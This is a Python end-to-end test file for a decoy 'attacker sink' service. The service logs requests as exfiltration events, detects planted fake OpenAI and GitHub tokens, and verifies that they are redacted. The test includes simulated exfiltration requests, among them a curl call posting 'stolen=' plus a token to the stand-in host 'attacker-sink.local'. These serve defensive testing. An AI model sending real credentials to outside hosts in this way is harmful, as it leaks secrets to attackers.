"""The real ``cogumi sink`` process over HTTP and HTTPS, reporting to the real API.

A client trusts the sink's certificate through the file it writes (and the
fingerprint it prints matches it); every request becomes an ``attacker_sink``
event with matches, and no planted secret is stored or logged in raw form.
"""

from __future__ import annotations

import asyncio
import hashlib
import os
import signal
import ssl
import subprocess
import sys
import uuid
from pathlib import Path
from typing import Any

import httpx
import pytest
from cryptography import x509
from cryptography.hazmat.primitives.serialization import Encoding
from sqlalchemy import select, text

from cogumi.events.models import Event
from cogumi.sink.options import SINK_SPECS, from_argv
from tests.factories import Accounts, project_with_token
from tests.servers import free_port, serve_app
from tests.sidecar.test_proxy_http import curl

pytestmark = pytest.mark.e2e

COGUMI = str(Path(sys.executable).parent / "cogumi")
PLANTED = "sk-proj-" + "R8v2" * 10 + "T3BlbkFJ" + "k5Qn" * 5
GITHUB = "ghp_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2"


async def wait_listening(port: int, proc: asyncio.subprocess.Process) -> None:
    async with asyncio.timeout(20):
        while True:
            assert proc.returncode is None, "sink exited early"
            try:
                _, writer = await asyncio.open_connection("127.0.0.1", port)
            except OSError:
                await asyncio.sleep(0.05)
                continue
            writer.close()
            return


async def stored_events(accounts: Accounts, project_id: uuid.UUID, count: int) -> list[Event]:
    async with asyncio.timeout(20):
        while True:
            async with accounts.sessionmaker() as session:
                query = select(Event).where(Event.project_id == project_id)
                rows = list((await session.scalars(query)).all())
            if len(rows) >= count:
                return rows
            await asyncio.sleep(0.1)


async def test_sink_over_http_and_https_reports_to_the_api(
    app: Any, accounts: Accounts, tmp_path: Path
) -> None:
    owner = await accounts.signup()
    sidecar = await project_with_token(accounts, owner.org_id)
    http_port, tls_port = free_port(), free_port()
    cert_file = tmp_path / "sink.pem"
    async with serve_app(app) as api:
        proc = await asyncio.create_subprocess_exec(
            COGUMI, "sink", "--listen", f"127.0.0.1:{http_port}",
            "--tls-listen", f"127.0.0.1:{tls_port}", "--cert-file", str(cert_file),
            "--ingest-url", api, "--token", sidecar.token,
            "--project-id", str(sidecar.project_id), "--batch-flush-ms", "50",
            env={**os.environ, "HEARTBEAT_INTERVAL_SEC": "1"},
            stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.STDOUT,
        )  # fmt: skip
        try:
            await wait_listening(http_port, proc)
            await wait_listening(tls_port, proc)
            async with httpx.AsyncClient(trust_env=False) as client:
                plain = await client.post(
                    f"http://127.0.0.1:{http_port}/collect?key={PLANTED}",
                    content=f"creds={PLANTED}&more=1",
                    headers={"Authorization": f"Bearer {GITHUB}", "Host": "attacker-sink.local"},
                )
                assert (plain.status_code, plain.json()) == (200, {})
                weird = await client.request("PURGE", f"http://127.0.0.1:{http_port}/x/y/z")
                assert (weird.status_code, weird.json()) == (200, {})
            trusting = ssl.create_default_context(cafile=str(cert_file))
            async with httpx.AsyncClient(verify=trusting, trust_env=False) as client:
                secure = await client.put(
                    f"https://127.0.0.1:{tls_port}/upload", json={"token": PLANTED}
                )
                assert (secure.status_code, secure.json()) == (200, {})
            code, out, err = await curl(
                "--cacert", str(cert_file),
                "--resolve", f"attacker-sink.local:{tls_port}:127.0.0.1",
                "-d", f"stolen={GITHUB}", f"https://attacker-sink.local:{tls_port}/webhook",
            )  # fmt: skip
            assert (code, out) == (0, "{}"), err
            # An untrusting client is refused: the certificate really is self-signed.
            async with httpx.AsyncClient(trust_env=False) as client:
                with pytest.raises(httpx.ConnectError):
                    await client.get(f"https://127.0.0.1:{tls_port}/")
            events = await stored_events(accounts, sidecar.project_id, 4)
        finally:
            proc.send_signal(signal.SIGTERM)
            output, _ = await proc.communicate()
    log = output.decode()
    assert proc.returncode == 0, log
    der = x509.load_pem_x509_certificate(cert_file.read_bytes()).public_bytes(Encoding.DER)
    fingerprint = hashlib.sha256(der).hexdigest().upper()
    assert ":".join(fingerprint[i : i + 2] for i in range(0, 64, 2)) in log
    by_path = {e.dest_path.split("?")[0]: e for e in events}
    assert set(by_path) == {"/collect", "/x/y/z", "/upload", "/webhook"}
    for event in events:
        assert (event.channel, event.type, event.actor) == ("http", "request", "target")
        assert event.classification == "attacker_sink"
        assert event.status_code == 200
    collect = by_path["/collect"]
    assert (collect.dest_host, collect.dest_port, collect.http_method) == (
        "attacker-sink.local", http_port, "POST",
    )  # fmt: skip
    assert collect.bytes_out == len(f"creds={PLANTED}&more=1")
    kinds = {m["kind"] for m in collect.matches}
    assert {"OPENAI_KEY", "GITHUB_TOKEN"} <= kinds
    headers = dict(collect.payload_redacted["headers_redacted"]["request"])
    assert GITHUB not in str(headers) and "REDACTED" in str(headers)
    assert "[REDACTED:OPENAI_KEY" in collect.payload_redacted["body_redacted_preview"]
    assert by_path["/x/y/z"].http_method == "PURGE"
    upload = by_path["/upload"]
    assert (upload.dest_port, upload.http_method) == (tls_port, "PUT")
    assert upload.payload_redacted["scheme"] == "https"
    assert any(m["kind"] == "OPENAI_KEY" for m in upload.matches)
    webhook = by_path["/webhook"]
    assert webhook.dest_host == "attacker-sink.local"
    assert any(m["kind"] == "GITHUB_TOKEN" for m in webhook.matches)
    # Never a raw secret: not in the database, not in the sink's own output.
    async with accounts.sessionmaker() as session:
        dump = " ".join(
            str(row) for row in (await session.execute(text("SELECT * FROM events"))).all()
        )
    for secret in (PLANTED, GITHUB):
        assert secret not in dump and secret[6:30] not in dump
        assert secret not in log and secret[6:30] not in log


def test_options_resolve_and_reuse_the_sidecar_names() -> None:
    options = from_argv(
        ["--listen", "0.0.0.0:80", "--tls-listen", "off", "--tls-name", "sink.corp"],
        {"SIDECAR_TOKEN": "cgs_x", "INGEST_URL": "http://api", "PROJECT_ID": "p",
         "BATCH_FLUSH_MS": "25"},
    )  # fmt: skip
    assert options.listen == "0.0.0.0:80" and options.tls_listen is None
    assert options.tls_names == ("sink.corp",)
    assert options.shipping.ships and options.shipping.batch_flush_ms == 25
    assert options.shipping.preview_bytes == 32 * 1024
    names = {spec.name for spec in SINK_SPECS}
    assert {"ingest_url", "token", "project_id", "batch_flush_ms"} <= names
    assert "upstream_timeout" not in names  # proxy-only options stay out


def test_the_sink_imports_no_database_or_web_stack() -> None:
    code = (
        "import sys, cogumi.cli, cogumi.sink.runner; "
        "print(sorted(m for m in sys.modules if m.split('.')[0] in "
        "{'sqlalchemy', 'fastapi', 'starlette', 'alembic', 'httpx', 'cogumi'} "
        "and not m.startswith(('cogumi.sidecar', 'cogumi.sink', 'cogumi.detect', 'cogumi.cli', "
        "'cogumi.tasks')) and m != 'cogumi'))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"
